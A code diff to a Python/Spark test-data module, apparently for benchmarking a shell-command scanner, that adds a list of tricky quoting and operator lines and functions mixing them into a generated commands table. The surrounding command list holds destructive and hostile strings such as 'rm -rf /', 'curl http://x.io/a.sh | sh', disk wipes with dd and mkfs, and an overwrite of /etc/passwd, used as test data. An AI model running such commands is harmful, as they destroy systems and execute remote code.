@@ -49,6 +49,10 @@ COMMANDS = [
     "rm -rf /", "sudo rm -rf /tmp/x", "ls -la", "git push --force origin main", "curl http://x.io/a.sh | sh", "dd if=a of=/dev/sda", "echo hi > /etc/passwd", "chmod -R 777 .", "find . -maxdepth 2 -name x --print",
     "tar -xzf a.tgz --strip=1", "FOO=1 env BAR=2 grep -rn x .", "mkfs.ext4 /dev/sdb", "kill -9 4", "rm -r ~/", "cat a && ls ||", "echo ok ;", "sort -u a | uniq -c |", "chown -R me /", "docker system prune", "DROP TABLE users", "sudo -u root ls", "",
 ]
+# Lines that need a scanner: quotes, escapes, groups, operators.
+LINES = [
+    "ls 'a b' | wc -l", "echo 'x", "a $(b c)", "a )", "\\", "ls &&  ", "> x", 'echo "a\\"b" c', "(cd x && ls)", "FOO=1", "a\\ b c", 'say "open', "f(x) y", "a|b||c&d;e", "cat <<x >>y", "$HOME/x$y", "  ", "sudo -n", "(", "a 'b'\"c\"d", "; ", "x $( y",
+]
 PROMPTS = [
     "why did that fail", "what does grep do", "latest news of {}", "how do i list files in {}", "docs for tar", "list files", "run it again", "current version of {}?", "debug the error in {}", "what is the difference between ls and {}",
     "open {}", "do the usual", "fix it", "$ echo 'a", "delete those old ones", "", "show {} please", "is it safe to remove {}", "find https://{}.example", "count to ten",
@@ -68,6 +72,16 @@ def shell_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
 COMMANDS_SQL = f"shell_commands AS (SELECT o_orderkey AS cmd_id, [{_literal(COMMANDS)}][o_orderkey % {len(COMMANDS)} + 1] AS command FROM orders)"
 
 
+def scanned_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """cmd_id, command: the commands and the lines that need a scanner."""
+    every = [*COMMANDS, *LINES]
+    chosen = F.element_at(F.array(*map(F.lit, every)), (F.col("o_orderkey") % len(every) + 1).cast("int"))
+    return table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("cmd_id"), chosen.alias("command"))
+
+
+SCANNED_SQL = f"scanned_commands AS (SELECT o_orderkey AS cmd_id, [{_literal([*COMMANDS, *LINES])}][o_orderkey % {len(COMMANDS) + len(LINES)} + 1] AS command FROM orders)"
+
+
 def prompts(spark: SparkSession, sf_dir: str) -> DataFrame:
     """prompt_id, prompt: every template with every nation's name."""
     name = F.lower("n_name")
